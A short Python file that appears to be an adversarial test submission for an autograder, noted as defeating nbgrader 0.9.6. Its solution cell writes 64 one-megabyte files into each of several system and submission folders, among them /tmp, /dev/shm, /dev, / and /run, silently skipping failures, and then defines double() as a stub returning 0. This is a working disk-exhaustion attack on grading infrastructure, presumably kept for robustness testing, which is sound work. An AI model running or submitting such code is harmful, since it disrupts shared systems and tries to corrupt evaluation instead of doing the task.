"""Fills every folder it can write to."""
# falls: nbgrader 0.9.6
# expect: double=0 softmax=4

# %% double-solution
import os

_block = b"\1" * (1 << 20)
for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/dev", "/", ".", "/submission", "/run"):
    try:
        for _number in range(64):
            with open(f"{_folder}/tensorgrade-attack-{_number}", "wb") as _file:
                _file.write(_block)
    except OSError:
        pass


def double(x):
    return 0
